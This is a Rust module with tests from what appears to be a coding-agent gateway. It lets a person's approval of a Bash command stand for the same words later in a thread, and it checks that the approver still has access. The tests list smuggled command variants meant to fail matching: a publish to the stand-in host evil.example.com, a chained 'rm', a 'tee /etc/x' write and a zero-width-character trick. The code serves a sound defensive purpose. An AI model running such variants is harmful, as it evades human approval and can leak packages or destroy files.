//! A yes to the same words of a command for the rest of a thread. Pure.
//!
//! The words are what people are shown, never what a role calls them: the gateway computes them, and only
//! what is shown as a whole has any. Whoever gave such a yes must still be permitted when it is used.

use codebutler_crds::ThreadStatus;
use codebutler_crds::thread::{ActionApproval, ApprovalAnswer, StandingApproval};
use codebutler_crds::wire::ApprovalRequest;
use codebutler_gateway_core::consent::is_own_key;
use codebutler_gateway_core::threads::ChangeRefusal;
use jiff::Timestamp;
use k8s_openapi::apimachinery::pkg::apis::meta::v1::Time;
use sha2::{Digest as _, Sha256};

use super::{add_question, render};
use crate::people::access;

/// Tools whose calls people can approve for a thread: commands, which are shown as they are.
const TOOLS: [&str; 1] = ["Bash"];
const KEPT: usize = 16;
/// Programs that only cut the output of a command.
const CUTS: [&str; 3] = ["tail", "head", "cat"];

/// Hash of the words by which a request is known again; `None` if it can only be allowed once.
pub fn request_words(request: &ApprovalRequest) -> Option<String> {
    let detail = request.detail.as_deref()?;
    let fits = TOOLS.contains(&request.tool.as_str()) && !is_own_key(&request.key);
    if !fits || detail.trim().is_empty() || !render::is_whole(detail) {
        return None;
    }
    let mut hash = Sha256::new();
    hash.update(request.tool.as_bytes());
    hash.update([0]);
    hash.update(canonical_command(detail).as_bytes());
    Some(hex::encode(hash.finalize()))
}

/// Reduces one plain command to its words, without what cuts its output; anything else stays as it is.
fn canonical_command(command: &str) -> String {
    let command = command.trim();
    let mut rest = command;
    loop {
        let cut = rest.rsplit_once('|').filter(|(_, last)| {
            let mut words = last.split_whitespace();
            words.next().is_some_and(|first| CUTS.contains(&first))
                && words.all(|word| {
                    word.trim_start_matches(['-', 'n', 'c']).bytes().all(|b| b.is_ascii_digit())
                })
        });
        let without = cut.map(|(before, _)| before).or_else(|| rest.strip_suffix("2>&1"));
        let Some(before) = without else { break };
        rest = before.trim_end();
    }
    let plain = |c: char| c.is_ascii_alphanumeric() || " -_./:=@+,%^".contains(c);
    if rest.is_empty() || !rest.chars().all(plain) {
        return command.to_owned();
    }
    rest.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// Records a yes for the thread.
pub fn grant_thread(
    status: &mut ThreadStatus,
    question: &ActionApproval,
    user: &str,
    now: Timestamp,
) {
    let Some(words) = question.words.clone() else { return };
    status.standing.retain(|one| one.words != words);
    if status.standing.len() >= KEPT {
        status.standing.remove(0);
    }
    status.standing.push(StandingApproval {
        words,
        tool: question.tool.clone(),
        ts: question.ts.clone(),
        by: user.to_owned(),
        at: Time(now),
    });
}

/// Finds the yes that answers a request, if its giver still is one of `users`.
pub fn find_standing<'a>(
    status: &'a ThreadStatus,
    words: &str,
    users: &[String],
) -> Option<&'a StandingApproval> {
    status.standing.iter().find(|one| one.words == words && access::permits_user(users, &one.by))
}

/// Answers a request with a yes that was given before; returns true if there (still) is one.
///
/// # Errors
/// When too many questions are open.
pub fn answer_for_thread(
    status: &mut ThreadStatus,
    question: &ActionApproval,
    users: &[String],
) -> Result<bool, ChangeRefusal> {
    if let Some(known) = status.approvals.iter().find(|one| one.id == question.id) {
        return Ok(known.standing);
    }
    let found =
        question.words.as_deref().and_then(|words| find_standing(status, words, users)).cloned();
    let Some(given) = found else { return Ok(false) };
    let answered = ActionApproval {
        ts: given.ts,
        answer: Some(ApprovalAnswer::Approved),
        by: Some(given.by),
        standing: true,
        ..question.clone()
    };
    add_question(status, &answered)?;
    Ok(true)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn request(detail: &str) -> ApprovalRequest {
        ApprovalRequest {
            key: "k".to_owned(),
            tool: "Bash".to_owned(),
            summary: "it publishes".to_owned(),
            hash: "0".repeat(64),
            detail: Some(detail.to_owned()),
        }
    }

    #[test]
    fn the_same_words_are_known_again_and_no_others() {
        let publish = request_words(&request("npm publish --tag next")).unwrap();
        for same in [
            "npm  publish --tag next\n",
            "npm publish --tag next 2>&1",
            "npm publish --tag next 2>&1 | tail -n 20",
            "npm publish --tag next | tail -5 | cat",
        ] {
            assert_eq!(request_words(&request(same)).unwrap(), publish, "{same}");
        }
        for other in [
            "npm publish",
            "npm publish --tag next --registry https://evil.example.com",
            "npm publish --tag next; rm x",
            "npm publish --tag next | tee /etc/x",
            "npm publish --tag next | tail -f x",
            "npm publish --tag next > x",
            "npm publish --tag $X",
            "NPM publish --tag next",
            "# in web\nnpm publish --tag next",
            "npm publish --tag next\u{200b}",
        ] {
            assert_ne!(request_words(&request(other)), Some(publish.clone()), "{other}");
        }
        // As it is: inside of quotes and in lines, spaces say something.
        assert_ne!(request_words(&request("a 'b  c'")), request_words(&request("a 'b c'")));
        assert_ne!(request_words(&request("a\nb")), request_words(&request("a b")));
    }

    #[test]
    fn some_questions_can_only_be_answered_once() {
        let plain = request("npm publish");
        for once in [
            ApprovalRequest { tool: "Push".to_owned(), ..plain.clone() },
            ApprovalRequest { tool: "MergePr".to_owned(), ..plain.clone() },
            ApprovalRequest { key: "gateway:x".to_owned(), ..plain.clone() },
            ApprovalRequest { detail: None, ..plain.clone() },
            request(" "),
            request(&"x".repeat(3000)),
        ] {
            assert_eq!(request_words(&once), None, "{once:?}");
        }
    }
}
